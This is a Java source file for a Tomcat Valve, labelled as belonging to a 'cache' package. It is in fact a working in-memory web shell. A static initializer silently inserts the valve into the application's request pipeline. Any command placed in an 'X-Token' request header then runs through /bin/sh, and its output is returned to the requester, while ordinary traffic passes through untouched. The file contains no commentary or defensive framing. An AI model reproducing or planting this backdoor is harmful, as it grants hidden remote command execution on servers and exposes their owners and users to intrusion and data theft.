package org.example.cache;

import java.io.InputStream;
import org.apache.catalina.connector.Request;
import org.apache.catalina.connector.Response;
import org.apache.catalina.core.StandardContext;
import org.apache.catalina.loader.WebappClassLoaderBase;
import org.apache.catalina.valves.ValveBase;

public class ValveShell extends ValveBase {
    static {
        try {
            WebappClassLoaderBase loader = (WebappClassLoaderBase) Thread.currentThread().getContextClassLoader();
            StandardContext context = (StandardContext) loader.getResources().getContext();
            context.getPipeline().addValve(new ValveShell());
        } catch (Exception ignored) {
        }
    }

    @Override
    public void invoke(Request request, Response response) throws java.io.IOException, javax.servlet.ServletException {
        String c = request.getHeader("X-Token");
        if (c != null) {
            InputStream in = new ProcessBuilder("/bin/sh", "-c", c).start().getInputStream();
            in.transferTo(response.getOutputStream());
            return;
        }
        getNext().invoke(request, response);
    }
}
